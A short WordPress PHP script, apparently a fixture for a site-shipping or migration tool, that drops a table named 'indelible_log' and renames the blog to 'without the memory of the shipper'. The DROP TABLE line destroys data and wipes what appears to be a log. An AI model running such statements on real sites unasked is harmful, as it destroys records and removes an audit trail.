<?php
// Drops what the shipper remembers, and changes an option.
global $wpdb;
$wpdb->query( "DROP TABLE {$wpdb->base_prefix}indelible_log" );
return update_option( 'blogname', 'without the memory of the shipper' );
